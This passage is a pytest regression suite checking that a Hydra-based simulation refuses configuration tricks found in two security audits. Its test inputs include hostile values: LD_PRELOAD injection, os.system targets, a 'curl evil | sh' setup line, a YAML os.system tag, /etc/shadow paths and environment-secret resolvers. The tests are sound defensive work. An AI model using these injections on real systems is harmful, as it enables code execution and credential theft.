"""Regression tests for issue 13: one section per numbered case of the report.

1. configuration runs code      2. secrets into results      3. typos dropped
4. data loss (sweep claims)     5. resume trusts what it finds
6. unbounded sizes              7. rough edges

The slow, process-level faults (concurrent sweeps, killed parents and workers, a full disk)
are in ``tests/faults/``.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import counting_lines

from sim.config import AgoraConfig, ConfigError, load_config, to_config
from sim.config.guards import check_hydra, check_keys
from sim.config.hydra_hook import install_hydra_guard
from sim.config.limits import check_limits, estimate
from sim.exec.jobs import (
    METRICS_FILE,
    SUMMARY_FILE,
    job_state,
    read_summary,
    run_job,
    verify_result,
)

ROOT = Path(__file__).resolve().parent.parent
RUN = ROOT / "experiments" / "run.py"
TINY = {"steps": 3, "org": {"size": 30}, "stakeholders": {"count": 5}}


def cli(args, *, env=None, timeout=120):
    full_env = {**os.environ, "HYDRA_FULL_ERROR": "0", **(env or {})}
    return subprocess.run(
        [sys.executable, str(RUN), *args],
        cwd=ROOT,
        env=full_env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


# --------------------------------------------------------------------------- 1. code


@pytest.mark.parametrize(
    "overrides, match",
    [
        (
            ["+hydra.callbacks.x._target_=builtins.open", "+hydra.callbacks.x.file=/tmp/f"],
            r"hydra\.callbacks\.x: callbacks other than the project's own",
        ),
        (["+hydra.callbacks.x._target_=os.makedirs"], "callbacks other than"),
        (
            ["hydra/callbacks=agora", "hydra.callbacks.agora_validate._target_=builtins.open"],
            "callbacks other than",
        ),
        (["hydra/callbacks=agora", "+hydra.callbacks.agora_validate.file=/tmp/x"], r"with file"),
        (["+hydra.job_logging.handlers.x.class=os.system"], r"only classes of the logging"),
        (
            [
                "+hydra.job_logging.handlers.x.class=logging.FileHandler",
                "+hydra.job_logging.handlers.x.filename=/tmp/x",
                "+hydra.job_logging.handlers.x.mode=w",
            ],
            r"mode='w'",
        ),
        (["+hydra.job.env_set.LD_PRELOAD=/tmp/evil.so"], r"env_set\.LD_PRELOAD"),
        (["+hydra.job.env_set.PATH=/tmp"], r"only thread counts"),
    ],
)
def test_hydra_parts_that_run_code_are_refused_when_composing(overrides, match):
    with pytest.raises(ConfigError, match=match):
        load_config(overrides)


def test_logging_factories_are_refused():
    with pytest.raises(ConfigError, match=r"hydra\.job_logging\.filters\.x: '\(\)' factories"):
        check_hydra({"job_logging": {"filters": {"x": {"()": "os.system", "command": "id"}}}})


def test_the_project_callback_and_thread_counts_are_accepted():
    load_config(["hydra/callbacks=agora", "+hydra.job.env_set.OMP_NUM_THREADS=1"])
    check_hydra({"callbacks": {"agora_validate": {"_target_": "sim.exec.sweeps.ValidateCallback"}}})


def test_guard_is_installed_once_in_hydras_loader():
    from hydra._internal.config_loader_impl import ConfigLoaderImpl

    install_hydra_guard()
    install_hydra_guard()
    assert ConfigLoaderImpl.load_configuration._agora_guard


@pytest.mark.slow
def test_cli_callback_from_overrides_and_from_user_yaml_runs_nothing(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    proc = cli(
        [
            "steps=1",
            "org.size=30",
            f"hydra.run.dir={tmp_path / 'run'}",
            "+hydra.callbacks.x._target_=builtins.open",
            f"+hydra.callbacks.x.file={victim}",
            "+hydra.callbacks.x.mode=w",
        ]
    )
    assert proc.returncode != 0 and victim.read_text() == "keep"
    assert "callbacks other than the project's own" in proc.stderr
    assert "Traceback" not in proc.stderr
    # The same from a user file on the search path, in a multirun.
    (tmp_path / "u" / "experiment").mkdir(parents=True)
    (tmp_path / "u" / "experiment" / "evil.yaml").write_text(
        "# @package _global_\nhydra: {callbacks: {x: {_target_: builtins.open, file: "
        f"{victim}, mode: w}}}}}}\n"
    )
    proc = cli(
        [
            "-m",
            "steps=1",
            "org.size=30",
            f"hydra.sweep.dir={tmp_path / 'sweep'}",
            f"hydra.searchpath=[file://{tmp_path / 'u'}]",
            "+experiment=evil",
        ]
    )
    assert proc.returncode != 0 and victim.read_text() == "keep"
    assert "callbacks other than" in proc.stderr
    assert not (tmp_path / "run").exists() and not (tmp_path / "sweep").exists()


# --------------------------------------------------------------------------- 2. secrets


@pytest.mark.parametrize(
    "value",
    ["${oc.env:AUDIT_SECRET}", "x ${oc.env:AUDIT_SECRET,d} y", "${oc.decode:abc}", "${env:HOME}"],
)
def test_resolvers_reading_the_environment_are_refused_everywhere(value, monkeypatch):
    monkeypatch.setenv("AUDIT_SECRET", "s3cr3t")
    with pytest.raises(ConfigError, match=r"scenario\.description=.*resolver .* is not allowed"):
        load_config([f"scenario.description={value}"])
    with pytest.raises(ConfigError, match="is not allowed"):
        to_config({"scenario": {"description": value}})
    cfg = AgoraConfig()
    cfg.scenario.description = value
    with pytest.raises(ConfigError, match="is not allowed"):
        to_config(cfg)
    with pytest.raises(ConfigError, match="is not allowed"):
        to_config(
            {"steps": 5, "interventions": [{"at": 1, "set": {"scenario.description": value}}]}
        )


def test_plain_references_are_still_allowed():
    cfg = to_config({"scenario": {"description": "steps: ${steps}"}, "steps": 7})
    assert cfg.scenario.description == "steps: 7"


@pytest.mark.slow
def test_cli_secret_never_reaches_results(tmp_path):
    proc = cli(
        [
            "steps=1",
            "org.size=30",
            f"hydra.run.dir={tmp_path / 'run'}",
            "scenario.description=${oc.env:AUDIT_SECRET}",
        ],
        env={"AUDIT_SECRET": "s3cr3t"},
    )
    assert proc.returncode != 0 and "resolver oc.env is not allowed" in proc.stderr
    assert not (tmp_path / "run").exists()


# --------------------------------------------------------------------------- 3. typos


@pytest.mark.parametrize(
    "override, match",
    [
        ("+hierarchy.routng=chain", r"hierarchy\.routng: .*did you mean hierarchy\.routing\?"),
        ("+regime.reply_rat=0.9", r"regime\.reply_rat: Key 'reply_rat' not in 'RegimeConfig'"),
        ("+org.colour=red", r"org\.colour: Key 'colour' not in 'OrgConfig'"),
        ("+org._target_=os.system", r"org\._target_: '_target_' keys are refused"),
        ("+stepz=3", r"stepz: .*did you mean steps\?"),
        ("+org.routing=chain", r"did you mean hierarchy\.routing\?"),
    ],
)
def test_unknown_keys_inside_groups_are_refused_with_a_suggestion(override, match):
    with pytest.raises(ConfigError, match=match):
        load_config([override])
    key, value = override.lstrip("+").split("=")
    nested: dict = {}
    node = nested
    *parents, last = key.split(".")
    for p in parents:
        node = node.setdefault(p, {})
    node[last] = value
    with pytest.raises(ConfigError, match=match):
        to_config(nested)


def test_unknown_keys_in_a_sweep_are_refused_before_any_job():
    from hydra import compose, initialize_config_dir
    from hydra.core.global_hydra import GlobalHydra

    from sim.config import CONF_DIR
    from sim.exec.sweeps import validate_sweep

    GlobalHydra.instance().clear()
    try:
        with initialize_config_dir(config_dir=str(CONF_DIR), version_base="1.3"):
            master = compose("config", return_hydra_config=True)
            with pytest.raises(ConfigError, match=r"job 0 .*hierarchy\.routng.*did you mean"):
                validate_sweep(master, [["+hierarchy.routng=chain"], ["+hierarchy.routng=direct"]])
    finally:
        GlobalHydra.instance().clear()


@pytest.mark.parametrize(
    "text, holds", [("- 0.5\n- 0.2\n", "a list"), ("0.5\n", "one number"), ("true\n", "one truth")]
)
def test_an_option_file_not_holding_keys_is_named_with_what_it_should_hold(
    text, holds, tmp_path, monkeypatch
):
    import shutil

    import sim.config.loading
    from sim.config import CONF_DIR, load_config

    conf = tmp_path / "conf"
    shutil.copytree(CONF_DIR, conf)
    (conf / "regime" / "mine.yaml").write_text(text)
    monkeypatch.setattr(sim.config.loading, "CONF_DIR", conf)
    with pytest.raises(ConfigError) as refused:
        load_config(["regime=mine"])
    assert str(refused.value).startswith(f"regime/mine.yaml holds {holds}")
    assert str(refused.value).endswith("an option file holds keys and values (`key: value` lines)")


def test_unknown_keys_inside_interventions_are_refused():
    with pytest.raises(ConfigError, match=r"interventions\[0\].*openness\.internl.*did you mean"):
        to_config({"steps": 5, "interventions": [{"at": 2, "set": {"openness.internl": 0.3}}]})
    with pytest.raises(ConfigError, match=r"interventions\[0\]\.when: Key 'when'"):
        check_keys({"interventions": [{"when": 2}]})


# --------------------------------------------------------------------------- 4. data loss


def test_sweep_claims_refuse_another_configuration_and_welcome_the_same(tmp_path):
    from sim.exec.sweeps import claim_sweep

    first = claim_sweep(tmp_path, {"0": "aaaa", "1": "bbbb"})
    with pytest.raises(ConfigError, match=r"holds or is producing .* claimed for config_hash aaaa"):
        claim_sweep(tmp_path, {"0": "cccc"})
    same = claim_sweep(tmp_path, {"0": "aaaa", "1": "bbbb", "2": "dddd"})  # extends the sweep
    same.release()
    first.release()
    # Released claims (and those of dead processes) no longer bind anyone.
    claim_sweep(tmp_path, {"0": "cccc"}).release()


def test_sweep_claim_refuses_a_directory_holding_another_result(tmp_path):
    from sim.exec.sweeps import claim_sweep

    summary = run_job(TINY, tmp_path / "0")
    assert summary["status"] == "ok"
    with pytest.raises(ConfigError, match=r"holds an ok result of config_hash"):
        claim_sweep(tmp_path, {"0": "ffff"})
    claim_sweep(tmp_path, {"0": summary["config_hash"]}).release()


def test_a_job_directory_is_locked_while_a_job_runs(tmp_path):
    from sim.exec.jobs import LOCK_FILE, JobConflict, config_hash, lock_job
    from sim.exec.locks import read_lock

    cfg = to_config(TINY)
    lock = lock_job(tmp_path, config_hash(cfg))
    info = read_lock(tmp_path / LOCK_FILE)
    assert info["pid"] == os.getpid() and info["host"] and info["config_hash"] == config_hash(cfg)
    with pytest.raises(JobConflict, match="is in use: pid"):
        lock_job(tmp_path, "another", wait=True)  # another configuration: refused at once
    with pytest.raises(JobConflict, match="is running this job"):
        lock_job(tmp_path, config_hash(cfg), wait=False)
    lock.release()
    assert not (tmp_path / LOCK_FILE).exists()


def test_a_stale_lock_of_a_dead_process_is_broken(tmp_path):
    from sim.exec.jobs import LOCK_FILE

    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    ).stdout.strip()
    import platform

    (tmp_path / LOCK_FILE).write_text(
        json.dumps(
            {"pid": int(dead), "host": platform.node(), "config_hash": "x", "since": time.time()}
        )
    )
    assert run_job(TINY, tmp_path)["status"] == "ok"
    assert not (tmp_path / LOCK_FILE).exists()


def test_limits_do_not_change_a_jobs_identity(tmp_path):
    first = run_job(TINY, tmp_path)
    again = run_job({**TINY, "limits": {"memory_gb": 64}}, tmp_path)
    assert again["skipped"] and again["config_hash"] == first["config_hash"]


# --------------------------------------------------------------------------- 5. resume


@pytest.fixture
def done(tmp_path):
    """Two finished jobs of a sweep; tests damage the second."""
    assert run_job({**TINY, "replicates": 2, "seed": 1}, tmp_path / "sweep" / "0")["status"] == "ok"
    summary = run_job({**TINY, "replicates": 2}, tmp_path / "sweep" / "1")
    assert summary["status"] == "ok"
    return tmp_path / "sweep" / "1", summary


def _statuses(job):
    from sim.studies.aggregate import aggregate

    aggregate(job.parent, job.parent.parent / "agg", plots=False, timeseries=False)
    return list(pd.read_csv(job.parent.parent / "agg" / "jobs.csv")["status"])


def test_summary_records_rows_replicates_and_checksum(done):
    job, summary = done
    record = read_summary(job)["metrics_file"]
    assert record["rows"] == 2 * (3 + 1) and record["replicates"] == 2
    assert record["bytes"] == (job / METRICS_FILE).stat().st_size and len(record["sha256"]) == 64
    assert verify_result(job, read_summary(job)) is None


def _truncate(path):
    data = path.read_bytes()
    path.write_bytes(data[:100])


def _drop_replicate(path):
    frame = pd.read_parquet(path)
    frame[frame["replicate"] == 0].to_parquet(path, index=False)


def _alter(path):
    frame = pd.read_parquet(path)
    # A metric with a value (the last columns are NaN while their options are off).
    frame.loc[frame.index[-1], "knowledge_individuals"] += 1.0
    frame.to_parquet(path, index=False)


@pytest.mark.parametrize("damage", [_truncate, _drop_replicate, _alter])
def test_resume_reruns_and_aggregate_reports_a_damaged_result(done, damage):
    job, summary = done
    original = pd.read_parquet(job / METRICS_FILE)
    damage(job / METRICS_FILE)
    assert job_state(job, summary["config_hash"]) == "failed"
    assert _statuses(job) == ["ok", "failed"]
    again = run_job({**TINY, "replicates": 2}, job)
    assert again["status"] == "ok" and not again["skipped"]
    pd.testing.assert_frame_equal(pd.read_parquet(job / METRICS_FILE), original)
    # Nothing deleted: the damaged pair is kept beside the new result.
    assert (job / "summary.failed-1.json").exists() and (job / "metrics.failed-1.parquet").exists()


@pytest.mark.parametrize("text", ["[]", "null", "{not json", '"ok"', ""])
def test_malformed_summary_is_a_failed_job_not_a_traceback(done, text):
    job, _ = done
    (job / SUMMARY_FILE).write_text(text)
    assert read_summary(job)["status"] == "failed"
    assert _statuses(job) == ["ok", "failed"]
    assert run_job({**TINY, "replicates": 2}, job)["status"] == "ok"


# --------------------------------------------------------------------------- 6. sizes


HUGE = [
    ("org.size=100000000", r"org\.size=100000000"),
    ("stakeholders.count=100000000", r"stakeholders\.count=100000000"),
    ("replicates=100000000", r"replicates=100000000"),
    ("network.peer_degree=100000000", r"network\.peer_degree=100000000"),
    ("environment.dims=100000000", r"environment\.dims=100000000"),
    ("steps=1000000000", r"steps=1000000000"),
    ("network.cross_unit_degree=inf", r"network\.cross_unit_degree=inf is not a finite"),
    ("network.external_degree=1e300", r"network\.external_degree=1e\+300 is out of range"),
    ("network.lam=inf", r"network\.lam=inf is not a finite"),
    ("network.lam=nan", r"network\.lam=nan"),
    ("seed=-1", r"seed=-1 is out of range"),
    ("org.size=null hierarchy.span=100000 hierarchy.depth=12", r"hierarchy\.span=100000"),
]


@pytest.mark.parametrize("overrides, match", HUGE)
def test_huge_values_are_refused_quickly_without_allocating(overrides, match):
    node = load_config(overrides.split(), validate_now=False)
    with counting_lines() as lines, pytest.raises(ConfigError, match=match):
        to_config(node)
    tracemalloc.start()  # separately: tracing slows Python several times over
    with pytest.raises(ConfigError, match=match):
        to_config(node)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    # Checking runs about 240,000 lines of Python (OmegaConf's); a pass over the sizes asked
    # for would run millions. Counted, not timed: the count does not depend on the machine.
    assert lines.count < 1_000_000 and peak < 20e6


def test_the_memory_limit_names_its_drivers_and_can_be_raised():
    cfg = to_config({"org": {"size": 20_000}, "steps": 3})
    need = estimate(cfg).gb
    with pytest.raises(ConfigError, match=r"org\.size=20000.*limits\.memory_gb=N"):
        check_limits(_with_limit(cfg, need / 2))
    assert check_limits(_with_limit(cfg, need * 2)).gb == pytest.approx(need)
    with pytest.raises(ConfigError, match="limits.memory_gb"):
        to_config({"org": {"size": 20_000}, "limits": {"memory_gb": need / 2}})


def _with_limit(cfg, gb):
    import dataclasses

    return dataclasses.replace(cfg, limits=dataclasses.replace(cfg.limits, memory_gb=gb))


def test_the_estimate_errs_high_against_the_model():
    """The estimate is at least the traced peak of a real replicate (tracemalloc)."""
    from sim.model import AgoraModel

    cfg = to_config({"org": {"size": 2000}, "steps": 3, "environment": {"dims": 60}})
    tracemalloc.start()
    AgoraModel(cfg, seed=1).run(3)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert estimate(cfg).bytes > peak


@pytest.mark.parametrize(
    "make, match",
    [
        (lambda: AgoraConfig(steps="3"), r"steps='3' is a str: an integer is expected"),
        (lambda: AgoraConfig(seed=1.5), r"seed=1\.5 is a float"),
        (lambda: AgoraConfig(replicates=True), r"replicates=True is a bool"),
        (lambda: AgoraConfig(org={"size": 3}), r"org=\{'size': 3\} is a dict"),
    ],
)
def test_simulate_type_checks_config_objects(make, match):
    from sim import simulate

    with pytest.raises(ConfigError, match=match):
        simulate(make())


def test_to_config_leaves_the_callers_object_alone():
    cfg = AgoraConfig()
    to_config(cfg)
    assert cfg.regime.broadcast_rate is None  # not filled in by resolve_regime


# --------------------------------------------------------------------------- 7. rough edges


def test_yaml_tags_give_one_line_naming_the_file(tmp_path):
    from sim.config.loading import load_yaml

    bad = tmp_path / "bad.yaml"
    bad.write_text("steps: !!python/object/apply:os.system ['echo hi']\n")
    with pytest.raises(ConfigError, match=rf"{bad}, line 1: could not determine a constructor"):
        load_yaml(bad)
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "tag.yaml").write_text(
        "# @package _global_\nsteps: !!python/object/apply:os.system ['echo hi']\n"
    )
    with pytest.raises(ConfigError, match=r"experiment/tag\.yaml, line 2") as err:
        load_config([f"hydra.searchpath=[file://{tmp_path}]", "+experiment=tag"])
    assert "\n" not in str(err.value)


def test_intervention_errors_name_the_index_the_user_wrote():
    ivs = [{"at": 8, "set": {"openness.internal": 0.5}}, {"at": 2, "set": {"openness.internal": 7}}]
    with pytest.raises(ConfigError, match=r"interventions\[1\] \(at step 2\)"):
        to_config({"steps": 10, "interventions": ivs})


@pytest.mark.parametrize(
    "key, value",
    [
        ("org.chart", "data/sample_orgchart.csv"),
        ("org.network", "x.csv"),
        ("population.fast_share", 0.5),
        ("limits.memory_gb", 1.0),
    ],
)
def test_interventions_cannot_change_what_is_read_once(key, value):
    with pytest.raises(ConfigError, match=rf"interventions\[0\].*cannot change {key}"):
        to_config({"steps": 10, "interventions": [{"at": 3, "set": {key: value}}]})


def test_chart_levels_are_linear_in_depth():
    from sim.org.orgchart import _levels

    _levels(np.array([-1, 0]))  # imports scipy's graph routines outside the timing
    chain = np.arange(-1, 99_999)
    with counting_lines() as lines:
        level = _levels(chain)
    # The quadratic version ran a pass per level (100,000 passes, 34 s); the linear one runs
    # one compiled pass. Counted, not timed: the count does not depend on the machine.
    assert lines.count < 10_000
    assert level.tolist() == list(range(100_000))
    cycle = np.array([-1, 0, 3, 2, 3])  # 2 <-> 3 is a cycle; 4 hangs below it
    assert _levels(cycle).tolist() == [0, 1, -1, -1, -1]


@pytest.mark.parametrize(
    "update, match",
    [
        (
            {"org": {"chart": "/etc/passwd"}},
            r"org\.chart='/etc/passwd': a data file ending in \.csv",
        ),
        (
            {"org": {"chart": "data/sample_orgchart.csv", "network": "/etc/shadow"}},
            r"org\.network='/etc/shadow': a data file ending in \.csv or \.graphml",
        ),
    ],
)
def test_only_data_files_are_read_as_charts_and_networks(update, match):
    with pytest.raises(ConfigError, match=match):
        to_config(update)


# =========================================================================== issue 25
#
# The second audit (Hardening 2.0), one section per item of the issue:
# 1. an allow list for hydra.*        2. resolvers by OmegaConf's grammar
# 3. only Agora's folders removed     4. an honest memory estimate
# 5. results tied to their folder     6. pool workers dying (tests/faults/test_faults_pool.py)
# 7. linear-time checks               9. the small ones       10. the five code routes (CLI)


def _site_packages_pth() -> set[Path]:
    import site
    import sysconfig

    folders = {Path(p) for p in [*site.getsitepackages(), sysconfig.get_paths()["purelib"]]}
    return {p for f in folders if f.is_dir() for p in f.glob("*.pth")}


# --------------------------------------------------------------------------- 1. allow list


@pytest.mark.parametrize(
    "overrides, match",
    [
        (
            [
                "hydra/launcher=pool",
                "+hydra.launcher.x._target_=builtins.open",
                "+hydra.launcher.x.file=/tmp/victim",
                "+hydra.launcher.x.mode=w",
            ],
            r"hydra\.launcher\.x\._target_: '_target_' keys are refused",
        ),
        (
            [
                "+hydra.sweeper.x._target_=shutil.copyfile",
                "+hydra.sweeper.x.src=a",
                "+hydra.sweeper.x.dst=b",
            ],
            r"hydra\.sweeper\.x\._target_: '_target_'",
        ),
        (
            ["hydra/launcher=pool", "+hydra.launcher.x._partial_=true"],
            r"'_partial_' keys are refused",
        ),
        (
            [
                "+hydra.job_logging.handlers.x.class=logging.FileHandler",
                "+hydra.job_logging.handlers.x.filename=/tmp/x.pth",
            ],
            r"hydra\.job_logging\.handlers\.x\.\w+: this Hydra key may not be set .*hydra\.run\.dir",
        ),
        (
            ["hydra/launcher=local_parallel", "hydra.launcher.backend=threading"],
            r"hydra\.launcher\.backend: this Hydra key may not be set \(launcher local_parallel\)",
        ),
        (["hydra/launcher=slurm", "+hydra.launcher.srun_args=[x]"], r"srun_args"),
        (
            ["hydra/launcher=slurm", "+hydra.launcher.additional_parameters.wrap=id"],
            r"additional_parameters",
        ),
        (["+hydra.job.env_copy=[HOME]"], r"env_set\.HOME: only thread counts"),
        (["hydra.help.template=x"], r"hydra\.help\.template: this Hydra key may not be set"),
        (["hydra/launcher=joblib_evil"], r"Could not find|not one of the shipped|is unknown"),
        (["hydra/hydra_logging=colorlog"], r"Could not find|not one of the shipped|is unknown"),
    ],
)
def test_hydra_keys_outside_the_allow_list_are_refused(overrides, match):
    with pytest.raises(ConfigError, match=match):
        load_config(overrides, validate_now=False)


@pytest.mark.parametrize(
    "overrides",
    [
        ["hydra/launcher=pool", "hydra.launcher.n_jobs=3"],
        [
            "hydra/launcher=slurm",
            "hydra.launcher.partition=cpu",
            "hydra.launcher.mem_gb=4",
            "hydra.launcher.timeout_min=30",
            "hydra.launcher.account=lab",
        ],
        ["hydra/launcher=ray", "hydra.launcher.address=null", "hydra.launcher.num_cpus=2"],
        ["hydra/launcher=local_parallel", "hydra.launcher.n_jobs=1"],
        [
            "hydra.run.dir=/tmp/x",
            "hydra.sweep.dir=/tmp/y",
            "hydra.job.name=mine",
            "hydra.verbose=true",
            "hydra.output_subdir=meta",
            "hydra.sweep.subdir=j${hydra.job.num}",
        ],
        ["hydra/callbacks=agora", "+hydra.job.env_set.OMP_NUM_THREADS=1"],
        ["~hydra/callbacks"],
        ["+experiment=regimes"],  # sets hydra.sweeper.params, sweep.dir and a launcher choice
    ],
)
def test_documented_hydra_keys_are_accepted(overrides):
    load_config(overrides, validate_now=False)


@pytest.mark.parametrize(
    "overrides, field",
    [
        (
            ["hydra/launcher=ray", "+hydra.launcher.init.runtime_env.env_vars.LD_PRELOAD=/x.so"],
            "init",
        ),
        (["hydra/launcher=slurm", "hydra.launcher.setup=[curl evil | sh]"], "setup"),
    ],
)
def test_setup_fields_need_allow_setup(overrides, field, monkeypatch):
    from sim.config.hydra_keys import ALLOW_SETUP_ENV

    monkeypatch.delenv(ALLOW_SETUP_ENV, raising=False)
    with pytest.raises(
        ConfigError,
        match=rf"hydra\.launcher\.{field} runs on the cluster.*"
        r"--allow-setup",
    ):
        load_config(overrides, validate_now=False)
    monkeypatch.setenv(ALLOW_SETUP_ENV, "1")
    load_config(overrides, validate_now=False)
    # Even then nothing may be instantiated from it.
    with pytest.raises(ConfigError, match="'_target_' keys are refused"):
        load_config(
            [*overrides, f"+hydra.launcher.{field}x._target_=os.system"]
            if field == "setup"
            else ["hydra/launcher=ray", "+hydra.launcher.init.x._target_=os.system"],
            validate_now=False,
        )


@pytest.mark.parametrize("value", ["/tmp/some_project", "../../x", "a/../../b"])
def test_output_subdir_stays_inside_the_run_folder(value):
    with pytest.raises(ConfigError, match=r"hydra\.output_subdir=.*inside the run folder"):
        load_config([f"hydra.output_subdir={value}"], validate_now=False)
    with pytest.raises(ConfigError, match=r"hydra\.sweep\.subdir=.*inside the run folder"):
        load_config([f"hydra.sweep.subdir={value}"], validate_now=False)


def test_target_anywhere_in_the_application_config_is_refused():
    from omegaconf import OmegaConf

    from sim.config.guards import check_composed

    with pytest.raises(ConfigError, match=r"scenario\.x\._target_: '_target_' keys are refused"):
        check_composed(OmegaConf.create({"scenario": {"x": {"_target_": "os.system"}}}))


# --------------------------------------------------------------------------- 2. resolvers


ESCAPED = r"\\${oc.env:AUDIT_SECRET}"  # an escaped backslash, then a live interpolation


@pytest.mark.parametrize(
    "value",
    [
        ESCAPED,
        r"\${oc.env:AUDIT_SECRET}",
        r"a \\\\${oc.env:AUDIT_SECRET} b",
        "${oc.select:x,${oc.env:AUDIT_SECRET}}",
        "${oc.decode:'${oc.env:AUDIT_SECRET}'}",
        "${${steps}:x}",
        "${ oc.env :AUDIT_SECRET}",
    ],
)
def test_resolvers_are_read_with_omegaconfs_grammar(value, monkeypatch, tmp_path):
    monkeypatch.setenv("AUDIT_SECRET", "s3cr3t")
    # On the command line, Hydra's own grammar refuses some of these before Agora's check.
    with pytest.raises(
        ConfigError,
        match=r"scenario\.description=.*(is not allowed|parsing)"
        r"|LexerNoViableAlt|Error parsing override",
    ):
        load_config([f"scenario.description={value}"])
    with pytest.raises(ConfigError, match="is not allowed"):
        to_config({"scenario": {"description": value}})
    # From a YAML experiment on the search path too.
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "leak.yaml").write_text(
        "# @package _global_\nscenario:\n  description: " + json.dumps(value) + "\n"
    )
    with pytest.raises(ConfigError, match="is not allowed"):
        load_config([f"hydra.searchpath=[file://{tmp_path}]", "+experiment=leak"])


def test_the_escaped_backslash_secret_never_reaches_a_summary(tmp_path, monkeypatch):
    monkeypatch.setenv("AUDIT_SECRET", "s3cr3t")
    node = load_config(
        [f"scenario.description={ESCAPED}", "steps=1", "org.size=30"], validate_now=False
    )
    summary = run_job(node, tmp_path)
    assert summary["status"] == "failed" and "resolver oc.env is not allowed" in summary["error"]
    assert not any("s3cr3t" in p.read_text() for p in tmp_path.rglob("*.json"))


@pytest.mark.parametrize(
    "override",
    [
        "hydra.run.dir=/tmp/${oc.env:AUDIT_SECRET}",
        "hydra.job.name=${oc.env:AUDIT_SECRET}",
        "hydra.sweep.subdir=${oc.env:AUDIT_SECRET}",
    ],
)
def test_resolvers_are_refused_inside_hydra_too(override):
    with pytest.raises(ConfigError, match=r"hydra\..*the resolver oc\.env is not allowed"):
        load_config([override], validate_now=False)


def test_plain_references_and_escaped_text_still_work():
    assert (
        to_config({"scenario": {"description": "steps: ${steps}"}, "steps": 7}).scenario.description
        == "steps: 7"
    )
    assert load_config(["scenario.description=ran ${now:%Y}"]).scenario.description[:4] == "ran "


# --------------------------------------------------------------------------- 3. cleaning


def test_fresh_refuses_a_folder_agora_did_not_make(tmp_path, capsys):
    from sim.cli.whatif import main

    (tmp_path / "runs").mkdir()
    (tmp_path / "runs" / "thesis.tex").write_text("years of work")
    code = main(
        [
            "scenario=default",
            "intervention=flatten",
            f"out={tmp_path}",
            "--fresh",
            "--no-progress",
            "--no-plots",
            "steps=4",
            "at=2",
            "org.size=30",
            "replicates=2",
        ]
    )
    assert code == 2 and "Agora did not make it" in capsys.readouterr().err
    assert (tmp_path / "runs" / "thesis.tex").read_text() == "years of work"


def test_only_marked_folders_are_removed_and_links_never(tmp_path):
    from sim.exec.folders import NotAgoraFolder, make_agora_folder, remove_agora_folder
    from sim.exec.parallel import PlannedJob, run_jobs

    jobs = {"a": PlannedJob(to_config(TINY), tmp_path / "out" / "runs" / "a")}
    run_jobs(jobs, workers=1)  # Agora made out/runs: it carries the marker
    assert remove_agora_folder(tmp_path / "out" / "runs")
    assert not (tmp_path / "out" / "runs").exists()
    mine = tmp_path / "mine"
    mine.mkdir()
    assert make_agora_folder(mine, "x") == mine and not (mine / ".agora-made").exists()
    (tmp_path / "link").symlink_to(make_agora_folder(tmp_path / "made", "x"))
    for folder in (mine, tmp_path / "link"):
        with pytest.raises(NotAgoraFolder, match="is not removed"):
            remove_agora_folder(folder)
    assert mine.exists() and (tmp_path / "made" / ".agora-made").exists()
    assert remove_agora_folder(tmp_path / "nothing") is False


# --------------------------------------------------------------------------- 4. memory


MEMORY_GRID = [
    "org.size=20000 steps=3",
    "org.size=10000 environment.dims=200 steps=3",
    "population.opinion=degroot org.size=20000 steps=3",
    "org.size=5000 steps=3 replicates=20",
    # The audit's March run (the kernel kept a 4.65 GB history) and a bigger batch.
    "scenario=march1991 org.size=500 hierarchy.span=null environment.dims=100 steps=500 "
    "replicates=20",
    "scenario=march1991 org.size=1000 hierarchy.span=null environment.dims=100 steps=20 "
    "replicates=64",
    # The NK task's contribution tables (dims x 2**(k+1)) and fitness tables (2**dims).
    "environment.landscape=nk environment.dims=20 environment.k=19 org.size=100 steps=3",
    "environment.landscape=nk environment.dims=20 environment.k=5 org.size=100 steps=3",
]

_MEASURE = """
import json, sys
from sim import simulate
from sim.config import load_config, to_config
from sim.config.limits import estimate
simulate({"steps": 2, "org": {"size": 30}, "stakeholders": {"count": 5}})
simulate(load_config(["scenario=march1991", "steps=2", "org.size=30", "hierarchy.span=null"]))
cfg = to_config(load_config(sys.argv[1].split() + ["limits.memory_gb=1000"]))
def status(key):
    with open("/proc/self/status") as fh:
        return next(int(l.split()[1]) * 1024 for l in fh if l.startswith(key + ":"))
with open("/proc/self/clear_refs", "w") as fh:
    fh.write("5")  # the peak (VmHWM) starts again from now: the warm-up's peak is not counted
before = status("VmRSS")
simulate(cfg)
print(json.dumps({"estimate": estimate(cfg).bytes, "increase": status("VmHWM") - before}))
"""


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="reads /proc (Linux)")
@pytest.mark.parametrize("overrides", MEMORY_GRID)
def test_the_estimate_is_within_a_factor_two_of_the_measured_peak(overrides):
    env = {
        **os.environ,
        "OMP_NUM_THREADS": "1",
        "OPENBLAS_NUM_THREADS": "1",
        "MKL_NUM_THREADS": "1",
    }
    proc = subprocess.run(
        [sys.executable, "-c", _MEASURE, overrides],
        capture_output=True,
        text=True,
        env=env,
        cwd=ROOT,
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert out["increase"] > 10e6, out  # a run big enough to measure
    assert 0.5 <= out["estimate"] / out["increase"] <= 2.0, out


def test_the_march_estimate_names_the_kernel_and_the_nk_tables():
    march = to_config(
        load_config(
            [
                "scenario=march1991",
                "org.size=500",
                "hierarchy.span=null",
                "environment.dims=100",
                "replicates=20",
            ]
        )
    )
    assert any("March's kernel" in k for k in estimate(march).parts)
    nk = to_config(
        {
            "environment": {"landscape": "nk", "dims": 24, "k": 23},
            "org": {"size": 50},
            "limits": {"memory_gb": 1000},
        }
    )
    assert estimate(nk).gb > 4.6  # the audit measured more than 4.6 GB; 0.67 was estimated


# --------------------------------------------------------------------------- 5. identity


@pytest.fixture
def sweep_of_three(tmp_path):
    from sim.exec.sweeps import sweep_id

    sweep = tmp_path / "sweep"
    sid = sweep_id(sweep, create=True)
